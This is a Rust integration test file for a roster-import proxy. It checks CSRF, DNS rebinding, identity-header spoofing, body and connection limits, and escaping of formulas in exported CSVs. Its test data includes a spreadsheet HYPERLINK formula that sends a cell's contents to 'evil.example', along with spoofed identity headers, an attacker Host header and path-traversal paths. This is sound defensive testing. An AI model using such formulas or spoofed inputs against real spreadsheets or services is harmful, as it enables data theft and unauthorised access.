//! The security boundaries, each reproduced against a real proxy on loopback: identity from
//! trusted peers only, roles, CSRF, body limits, typed errors for bad bodies, unknown paths never
//! forwarded, security headers, dev mode and inline secrets refused, formula injection in
//! exported CSVs, metrics labels invented by clients, DNS rebinding in dev mode, repeated
//! identity headers, who may cancel or resume a job, half-sent requests and connection limits.

mod common;

use std::time::Duration;

use common::*;
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点此\")";

#[test]
fn exported_csvs_escape_formulas_and_failed_rows_reimport_unchanged() {
    let stack = Stack::start(0.0);
    let c = stack.client();
    // A name that is a formula, and a row that fails (an IM account the provider refuses).
    let rows = json!([
        {"row": 2, "cells": [FORMULA, "+86 138 0013 8000", "ghost-1"]},
        {"row": 3, "cells": ["@SUM(A1)", "13900139000", "member-ok"]}
    ]);
    let r = c.post(
        "/api/jobs",
        &json!({"headers": ["姓名", "手机号", "IM账号"], "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"]}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_string();
    c.wait_job(&id, Duration::from_secs(60));
    let results = c.get(&format!("/api/jobs/{id}/results.csv")).body;
    assert!(results.contains("\"'=HYPERLINK("), "{results}");
    assert!(results.contains("'@SUM(A1)"), "{results}");
    assert!(
        results.contains(",+86 138 0013 8000,"),
        "phones stay usable: {results}"
    );
    for line in results.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with('=') && !cell.starts_with('@'), "{line}");
        }
    }
    let failed = c.get(&format!("/api/jobs/{id}/failed.csv")).body;
    assert!(failed.contains("'=HYPERLINK("), "{failed}");
    // Re-imported, the escaper's prefix is gone: the cell is what the organizer typed.
    let roster =
        rollcall_core::roster::parse_roster(failed.as_bytes(), &Default::default()).unwrap();
    assert_eq!(roster.rows.len(), 1);
    assert_eq!(roster.rows.first().and_then(|r| r.cell(0)), Some(FORMULA));
}

/// The proxy's resident memory (Linux), KiB.
fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap()
}

#[test]
fn metrics_labels_are_only_known_methods() {
    let stack = Stack::start(0.0);
    let http = reqwest::blocking::Client::new();
    let before = rss_kib(stack.proxy.child.id());
    // 1,000 requests with 30 KB invented methods: 30 MB of would-be labels.
    for i in 0..1000 {
        let method =
            reqwest::Method::from_bytes(format!("X{}{i}", "A".repeat(30_000)).as_bytes()).unwrap();
        let _ = http
            .request(method, format!("{}/healthz", stack.proxy.url))
            .send()
            .unwrap();
    }
    let metrics = Client::new(&stack.proxy.url, Some(("root", ADMIN)))
        .get("/metrics")
        .body;
    assert!(!metrics.contains("AAAA"), "client-made labels");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
    assert!(metrics.len() < 20_000, "bounded: {} bytes", metrics.len());
    // Memory the requests used is returned as their buffers are freed: wait for the resident
    // size to settle under the bound rather than reading it once mid-release.
    let pid = stack.proxy.child.id();
    let grown = || rss_kib(pid).saturating_sub(before);
    let settled = eventually(Duration::from_secs(20), || {
        Some(grown()).filter(|&g| g < 16 * 1024)
    });
    eprintln!("RSS grew {} KiB", grown());
    assert!(settled.is_some(), "memory bounded: grew {} KiB", grown());
}

#[test]
fn dev_mode_answers_only_loopback_host_names() {
    let dir = tempfile::tempdir().unwrap();
    let p = serve_sandbox(dir.path(), "proxy.log", &[]);
    let port = p
        .url
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    let http = reqwest::blocking::Client::new();
    let me = |host: &str| {
        http.get(format!("{}/api/me", p.url))
            .header("Host", host)
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    // DNS rebinding: attacker.example resolved to 127.0.0.1 is not us.
    assert_eq!(me(&format!("attacker.example:{port}")), 403);
    assert_eq!(me("attacker.example"), 403);
    assert_eq!(me("127.0.0.1:1"), 403, "another port");
    assert_eq!(me(&format!("127.0.0.1:{port}")), 200);
    assert_eq!(me(&format!("localhost:{port}")), 200);
    let job = json!({"headers": ["IM账号"], "rows": [{"row": 2, "cells": ["x1"]}], "destinations": ["tencent-im:@TGS#2J4SZEAEL"]});
    let r = http
        .post(format!("{}/api/jobs", p.url))
        .header("Host", format!("attacker.example:{port}"))
        .header("x-rollcall-csrf", "1")
        .json(&job)
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 403, "no job from a rebound page");
}

#[test]
fn a_repeated_identity_header_is_refused() {
    let stack = Stack::start(0.0);
    let http = reqwest::blocking::Client::new();
    let r = http
        .get(format!("{}/api/me", stack.proxy.url))
        .header("X-Forwarded-User", "mallory")
        .header("X-Forwarded-User", "alice")
        .header("X-Forwarded-Groups", ORGANIZER)
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    let r = http
        .get(format!("{}/api/me", stack.proxy.url))
        .header("X-Forwarded-User", "alice")
        .header("X-Forwarded-Groups", ORGANIZER)
        .header("X-Forwarded-Groups", "admins")
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    assert_eq!(stack.client().get("/api/me").status, 200);
}

#[test]
fn only_the_creator_or_an_admin_cancels_or_resumes() {
    let dir = tempfile::tempdir().unwrap();
    let sandbox = spawn(
        &["sandbox", "--bind", "127.0.0.1:0"],
        &dir.path().join("sandbox.log"),
        "sandbox listening",
    );
    let config = write_config(dir.path(), &sandbox.url, "");
    let proxy = spawn(
        &["serve", "--config", config.to_str().unwrap()],
        &dir.path().join("proxy.log"),
        "Rollcall is running",
    );
    let alice = Client::new(&proxy.url, Some(("alice", ORGANIZER)));
    let bob = Client::new(&proxy.url, Some(("bob", ORGANIZER)));
    let admin = Client::new(&proxy.url, Some(("root", ADMIN)));
    let (headers, rows) = roster_csv(3000);
    let r = alice.post(
        "/api/jobs",
        &json!({"headers": headers, "rows": rows, "destinations": ["tencent-meeting:17305428542504531991"]}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_string();
    let r = bob.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(r.json()["code"], "not_your_job");
    let r = admin.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
    assert!(r.status == 200 || r.status == 409, "{}", r.body);
    let job = alice.wait_job(&id, Duration::from_secs(120));
    if job["state"] == "cancelled" {
        assert_eq!(
            bob.post(&format!("/api/jobs/{id}/resume"), &json!({}))
                .status,
            403
        );
        assert_eq!(
            alice
                .post(&format!("/api/jobs/{id}/resume"), &json!({}))
                .status,
            200
        );
    }
}

#[test]
fn reads_of_personal_data_are_audited() {
    let stack = Stack::start(0.0);
    // Not the creator: reads through a group the job is shared with (privacy.rs has the rest).
    let viewer = Client::new(&stack.proxy.url, Some(("vera", "organizers,auditors")));
    let c = stack.client();
    let (headers, rows) = roster_csv(2);
    let r = c.post(
        "/api/jobs",
        &json!({"headers": headers, "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"], "share_with": ["auditors"]}),
    );
    let id = r.json()["id"].as_str().unwrap().to_string();
    c.wait_job(&id, Duration::from_secs(60));
    for path in ["results", "results.csv", "failed.csv"] {
        assert_eq!(viewer.get(&format!("/api/jobs/{id}/{path}")).status, 200);
    }
    assert_eq!(
        viewer
            .get("/api/tencent-meeting/webinars/17305428542504531991/enrollments")
            .status,
        200
    );
    let db = audit_records(&stack);
    for action in [
        "job.results",
        "job.results_csv",
        "job.failed_csv",
        "tencent_meeting.list_enrollments",
    ] {
        assert!(
            db.iter().any(|(user, a)| user == "vera" && a == action),
            "{action} by vera is audited: {db:?}\n{}",
            stack
                .proxy
                .log_text()
                .lines()
                .filter(|l| l.contains("audit"))
                .take(3)
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
}

/// The audit records as the proxy logs them (`target: audit`): (user, action).
fn audit_records(stack: &Stack) -> Vec<(String, String)> {
    stack
        .proxy
        .log_text()
        .lines()
        .filter(|l| l.contains("audit"))
        .filter_map(|l| {
            let field = |k: &str| {
                let i = l.find(&format!("{k}="))? + k.len() + 1;
                Some(
                    l[i..]
                        .split_whitespace()
                        .next()?
                        .trim_matches('"')
                        .to_string(),
                )
            };
            Some((field("user")?, field("action")?))
        })
        .collect()
}

/// A proxy with `[server]` settings added to the test config.
fn proxy_with(server: &str) -> (tempfile::TempDir, Proc) {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "http://127.0.0.1:9", "");
    let text = std::fs::read_to_string(&config).unwrap().replacen(
        "[server]\n",
        &format!("[server]\n{server}\n"),
        1,
    );
    std::fs::write(&config, text).unwrap();
    let p = spawn(
        &["serve", "--config", config.to_str().unwrap()],
        &dir.path().join("proxy.log"),
        "Rollcall is running",
    );
    (dir, p)
}

fn host_of(url: &str) -> String {
    url.trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .to_string()
}

#[test]
fn a_half_sent_request_is_disconnected() {
    use std::io::{Read, Write};
    let (_d, p) = proxy_with("header_read_timeout_secs = 1");
    let mut s = std::net::TcpStream::connect(host_of(&p.url)).unwrap();
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .unwrap();
    // Our own limit is far beyond the server's: the server must be the one to end it.
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut buf = Vec::new();
    let r = s.read_to_end(&mut buf);
    assert!(
        r.is_ok() || matches!(r, Err(ref e) if e.kind() == std::io::ErrorKind::ConnectionReset),
        "the server closed the connection: {r:?}"
    );
    let text = String::from_utf8_lossy(&buf);
    assert!(
        text.is_empty() || text.starts_with("HTTP/1.1 408"),
        "no response but a timeout: {text}"
    );
}

#[test]
fn connections_beyond_the_limit_wait() {
    let (_d, p) = proxy_with("max_connections = 2\nheader_read_timeout_secs = 60");
    let host = host_of(&p.url);
    let idle: Vec<std::net::TcpStream> = (0..2)
        .map(|_| std::net::TcpStream::connect(&host).unwrap())
        .collect();
    let quick = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(2))
        .build()
        .unwrap();
    assert!(
        quick.get(format!("{}/healthz", p.url)).send().is_err(),
        "a third connection is not served while two are open"
    );
    drop(idle);
    let patient = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap();
    let r = patient.get(format!("{}/healthz", p.url)).send().unwrap();
    assert_eq!(r.status().as_u16(), 200);
}

#[test]
fn security_boundaries() {
    let stack = Stack::start(0.0);
    let organizer = stack.client();
    let viewer = Client::new(&stack.proxy.url, Some(("bob", VIEWER)));
    let nobody = Client::new(&stack.proxy.url, Some(("eve", "outsiders")));
    let anonymous = Client::new(&stack.proxy.url, None);
    // Identity headers from a peer outside trusted_proxies (127.0.0.2) are ignored → 401.
    let untrusted = Client::with_source(
        &stack.proxy.url,
        Some(("mallory", ORGANIZER)),
        Some("127.0.0.2".parse().unwrap()),
    );
    assert_eq!(untrusted.get("/api/me").status, 401);
    assert_eq!(anonymous.get("/api/me").status, 401);
    assert_eq!(nobody.get("/api/me").status, 403);
    assert_eq!(viewer.get("/api/me").json()["role"], "viewer");
    assert_eq!(viewer.get("/api/jobs").status, 200);

    let (headers, rows) = roster_csv(3);
    let job =
        json!({"headers": headers, "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"]});
    // Viewer cannot import or create.
    assert_eq!(viewer.post("/api/jobs", &job).status, 403);
    assert_eq!(viewer.post("/api/huiyi31/register", &json!({})).status, 403);
    // CSRF: missing header → 403; wrong content type → 415; cross-site fetch → 403.
    let body = serde_json::to_vec(&job).unwrap();
    assert_eq!(
        organizer
            .post_raw(
                "/api/jobs",
                &[("content-type", "application/json")],
                body.clone()
            )
            .status,
        403
    );
    assert_eq!(
        organizer
            .post_raw(
                "/api/jobs",
                &[("x-rollcall-csrf", "1"), ("content-type", "text/plain")],
                body.clone()
            )
            .status,
        415
    );
    assert_eq!(
        organizer
            .post_raw(
                "/api/jobs",
                &[
                    ("x-rollcall-csrf", "1"),
                    ("content-type", "application/json"),
                    ("sec-fetch-site", "cross-site")
                ],
                body.clone()
            )
            .status,
        403
    );
    assert_eq!(
        organizer
            .post_raw(
                "/api/jobs",
                &[
                    ("x-rollcall-csrf", "1"),
                    ("content-type", "application/json")
                ],
                body
            )
            .status,
        201
    );
    // Oversize body → 413 (limit 4 MiB for jobs, 1 MiB elsewhere in the test config). The limit
    // is enforced from Content-Length before any of the body is read, so a raw request that
    // declares the size and sends nothing more gets its answer at once (a client streaming the
    // whole body can race the server closing the connection).
    assert_eq!(
        oversize_status(&stack.proxy.url, "/api/jobs", 5 * 1024 * 1024),
        413
    );
    assert_eq!(
        oversize_status(&stack.proxy.url, "/api/huiyi31/register", 2 * 1024 * 1024),
        413
    );
    assert_eq!(
        oversize_status(&stack.proxy.url, "/api/huiyi31/register", 1024 * 1024 + 1),
        413
    );
    // Bad JSON is a typed error too.
    let r = organizer.post_raw(
        "/api/jobs",
        &[
            ("x-rollcall-csrf", "1"),
            ("content-type", "application/json"),
        ],
        b"{not json".to_vec(),
    );
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["code"], "bad_request_body");
    // Bad job bodies: typed, bilingual errors, nothing created.
    let jobs_before = organizer.get("/api/jobs").json().as_array().unwrap().len();
    for (body, status, code) in [
        (json!({}), 422, "bad_request_body"),
        (
            json!({"headers": ["姓名"], "rows": [], "destinations": ["tencent-im:@TGS#2J4SZEAEL"]}),
            422,
            "empty_roster",
        ),
        (
            json!({"headers": ["姓名"], "rows": [{"row": 2, "cells": ["a"]}], "destinations": []}),
            422,
            "no_destination",
        ),
        (
            json!({"headers": ["姓名"], "rows": [{"row": 2, "cells": ["a"]}], "destinations": ["zoom:1"]}),
            422,
            "bad_request_body",
        ),
        (
            json!({"headers": ["姓名"], "rows": [{"row": 2, "cells": ["a"]}], "destinations": ["tencent-im:x", "tencent-im:x"]}),
            422,
            "duplicate_destination",
        ),
        (
            json!({"headers": "nope", "rows": 3, "destinations": 7}),
            422,
            "bad_request_body",
        ),
    ] {
        let r = organizer.post("/api/jobs", &body);
        assert_eq!(r.status, status, "{body}: {}", r.body);
        let e = r.json();
        assert_eq!(e["code"], code, "{body}");
        assert!(
            !e["message"]["zh"].as_str().unwrap().is_empty()
                && !e["message"]["en"].as_str().unwrap().is_empty()
        );
    }
    assert_eq!(
        organizer.get("/api/jobs").json().as_array().unwrap().len(),
        jobs_before
    );
    // Unknown paths: 404, never forwarded to a provider.
    let before = stack.sandbox_state();
    for p in [
        "/api/v1/webinars",
        "/api/forward?url=http://example.com",
        "/api/tencent-meeting/../../v1/webinars",
        "/api/cgi-bin/gettoken",
    ] {
        let r = organizer.get(p);
        assert_eq!(r.status, 404, "{p}");
    }
    assert_eq!(
        organizer
            .post(
                "/api/v4/group_open_http_svc/import_group_member",
                &json!({})
            )
            .status,
        404
    );
    assert_eq!(
        stack.sandbox_state()["wecom"]["tokens_issued"],
        before["wecom"]["tokens_issued"]
    );
    // Headers: CSP with frame-ancestors, nosniff, no CORS.
    let r = anonymous.get("/");
    let csp = r
        .headers
        .get("content-security-policy")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(csp.contains("frame-ancestors 'self'"), "{csp}");
    assert_eq!(r.headers.get("x-content-type-options").unwrap(), "nosniff");
    assert!(organizer
        .get("/api/me")
        .headers
        .get("access-control-allow-origin")
        .is_none());
    // Operational endpoints.
    assert_eq!(anonymous.get("/healthz").body, "ok");
    assert_eq!(anonymous.get("/readyz").status, 200);
    // On the main listener, metrics are for admins (see privacy.rs for `metrics_bind`).
    assert_eq!(anonymous.get("/metrics").status, 401);
    assert_eq!(organizer.get("/metrics").status, 403);
    let admin = Client::new(&stack.proxy.url, Some(("root", ADMIN)));
    let m = admin.get("/metrics").body;
    assert!(
        m.contains("rollcall_http_requests_total") && m.contains("rollcall_jobs_"),
        "{m}"
    );
    for c in [&organizer, &viewer, &nobody, &anonymous, &untrusted] {
        assert_no_secrets("responses", &c.seen.borrow());
    }
    assert_no_secrets("proxy log", &[stack.proxy.log_text()]);
}

/// `rollcall serve` with `config`, which must refuse to start: what it said on stderr.
fn serve_refuses(config: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("rollcall.toml");
    std::fs::write(&cfg, config).unwrap();
    let out = std::process::Command::new(bin())
        .args(["serve", "--config", cfg.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success(), "{config} was accepted");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn dev_mode_refuses_a_network_bind() {
    let err = serve_refuses("[server]\nbind = \"0.0.0.0:0\"\n[auth]\nmode = \"dev\"\n");
    assert!(err.contains("loopback"), "{err}");
}

#[test]
fn inline_secrets_are_refused() {
    let err = serve_refuses(
        "[auth]\nmode = \"dev\"\n[providers.wecom]\ncorp_id = \"x\"\ncorp_secret = \"inline!\"\n",
    );
    assert!(err.contains("corp_secret"), "{err}");
    assert!(!err.contains("inline!"), "the refused value is not echoed");
}

/// Sends only the request head of a POST declaring `len` body bytes; returns the status code.
fn oversize_status(base: &str, path: &str, len: usize) -> u16 {
    use std::io::{Read, Write};
    let host = base
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap();
    let mut s = std::net::TcpStream::connect(host).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    write!(
        s,
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-User: alice\r\nX-Forwarded-Groups: {ORGANIZER}\r\nx-rollcall-csrf: 1\r\ncontent-type: application/json\r\ncontent-length: {len}\r\n\r\n"
    )
    .unwrap();
    let mut buf = [0u8; 64];
    let n = s.read(&mut buf).unwrap();
    let head = String::from_utf8_lossy(&buf[..n]).to_string();
    head.split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status in {head:?}"))
}
